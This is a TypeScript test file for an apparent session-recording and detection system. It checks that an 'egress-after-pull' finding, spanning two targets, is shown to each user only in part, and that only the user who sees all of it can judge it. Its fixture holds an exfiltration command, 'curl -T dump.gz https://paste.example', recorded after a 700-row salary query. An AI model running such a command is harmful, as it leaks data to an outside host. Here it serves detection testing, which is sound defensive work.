import assert from 'node:assert/strict'
import { test } from 'node:test'
import { serialize } from 'pg-protocol'
import { apiRig, type Browser } from '../../support/api.ts'
import { answers } from '../../support/pg-words.ts'
import { entry, START } from '../../support/recording.ts'

const SECRET = 'grade > 12'

test('of a finding over two targets everybody sees the part that is theirs, and only who sees all of it judges', async (t) => {
  await using rig = await apiRig()
  const pull = await rig.room.open(START)
  await pull.recorder.append([
    entry({
      kind: 'query',
      body: serialize.query(`SELECT id FROM salaries WHERE ${SECRET}`),
      facts: { relations: ['salaries'], verbs: ['SELECT'], fingerprint: 'f00d' },
    }),
    entry({
      dir: 'out',
      kind: 'reply',
      facts: { statement: 1, rows: 700, tag: 'SELECT 700', status: 'I' },
      body: Buffer.concat([answers.columns({ name: 'id' }), ...Array.from({ length: 700 }, (_, at) => answers.row(String(at)))]),
    }),
  ])
  await pull.recorder.seal('client.left')
  const send = await rig.room.open({ ...START, target: { ...START.target, name: 'vault', protocol: 'ssh' } })
  await send.recorder.append([entry({ kind: 'exec', body: Buffer.from('curl -T dump.gz https://paste.example') })])
  await send.recorder.seal('client.left')
  await rig.catalog.settle()
  await rig.catalog.scan()
  const [shop, vault] = [pull.info.id, send.info.id]
  const listed = async (who: Browser): Promise<{ id: string; target: string; targets: string[]; summary: string }> => {
    const { findings } = (await who.ask('/findings?detector=egress-after-pull')).json
    assert.equal(findings.length, 1)
    return findings[0]
  }
  const [ivan, otto, ann] = [await rig.as('ivan'), await rig.as('otto'), await rig.as('ann')]
  const { id } = await listed(ann)

  await t.test('in the list', async () => {
    assert.deepEqual((await listed(ann)).targets, ['vault', 'shop'])
    for (const [who, own] of [
      [ivan, 'shop'],
      [otto, 'vault'],
    ] as const) {
      const { target, targets, summary } = await listed(who)
      assert.deepEqual([target, targets], [own, [own]])
      assert.equal(summary, '700 rows were taken, and within 30 minutes something was sent')
    }
    const of = async (who: Browser, session: string): Promise<number> =>
      (await who.ask(`/findings?detector=egress-after-pull&session=${session}`)).json.findings.length
    assert.deepEqual([await of(otto, vault), await of(otto, shop), await of(ivan, shop), await of(ann, shop)], [1, 0, 1, 1])
  })

  await t.test('in the finding and where it is explained', async () => {
    for (const path of ['', '/explain'])
      for (const [who, own, others] of [
        [ivan, shop, vault],
        [otto, vault, shop],
      ] as const) {
        const answer = await who.ask(`/findings/${id}${path}`)
        const finding = path === '' ? answer.json : answer.json.finding
        assert.equal(answer.status, 200)
        assert.deepEqual(
          finding.contributions.map(({ session }: { session: string }) => session),
          [own],
        )
        assert.equal(finding.hidden, 1)
        assert.ok(!answer.text.includes(others))
        if (who === otto) assert.ok(!answer.text.includes(SECRET) && !answer.text.includes('"shop"'))
        else assert.ok(!answer.text.includes('curl') && !answer.text.includes('"vault"'))
      }
    const { contributions, hidden } = (await ann.ask(`/findings/${id}`)).json
    assert.deepEqual([contributions.length, hidden], [2, 0])
  })

  await t.test('what somebody makes of it is for who sees all of it', async () => {
    const body = { state: 'true', reason: `they looked for ${SECRET}` }
    for (const who of [ivan, otto]) {
      assert.equal((await who.ask(`/findings/${id}`)).json.may.dispose, false)
      assert.equal((await who.ask(`/findings/${id}/disposition`, { body })).status, 403)
    }
    assert.equal((await ann.ask(`/findings/${id}/disposition`, { body })).status, 200)
    const { state, dispositions } = (await otto.ask(`/findings/${id}`)).json
    assert.deepEqual([state, dispositions], ['true', []])
    assert.equal((await ann.ask(`/findings/${id}`)).json.dispositions.length, 1)
  })

  await t.test('one detector at a time runs again for somebody', async () => {
    const answers = await Promise.all(Array.from({ length: 5 }, () => ann.ask(`/findings/${id}/explain`)))
    const statuses = answers.map(({ status }) => status).sort()
    assert.ok(statuses[0] === 200 && statuses.at(-1) === 429, String(statuses))
    assert.equal((await otto.ask(`/findings/${id}/explain`)).status, 200)
  })

  await t.test('a case tells of it to both', async () => {
    const made = await ann.ask('/cases', { body: { title: 'salaries' } })
    await ann.ask(`/cases/${made.json.id}/changes`, { body: { act: 'add', kind: 'finding', finding: id, note: '' } })
    for (const who of [ivan, otto]) {
      const { items } = (await who.ask(`/cases/${made.json.id}`)).json
      assert.deepEqual(
        items.map(({ shown }: { shown: boolean }) => shown),
        [true],
      )
    }
  })
})
